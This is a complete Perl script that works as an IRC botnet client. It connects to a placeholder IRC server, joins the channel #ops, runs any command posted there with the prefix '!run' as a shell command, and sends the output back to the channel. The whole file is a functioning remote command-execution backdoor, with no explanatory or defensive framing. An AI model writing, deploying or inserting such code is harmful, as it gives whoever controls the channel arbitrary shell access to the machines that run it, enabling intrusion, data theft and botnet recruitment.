#!/usr/bin/perl
use IO::Socket::INET;
my $irc = IO::Socket::INET->new(PeerAddr => "irc.example.invalid", PeerPort => 6667);
print $irc "NICK b$$\r\nUSER b 0 * :b\r\nJOIN #ops\r\n";
while (my $line = <$irc>) {
    if ($line =~ /PRIVMSG #ops :!run (.*)/) {
        my @out = `$1`;
        print $irc "PRIVMSG #ops :$_" for @out;
    }
}
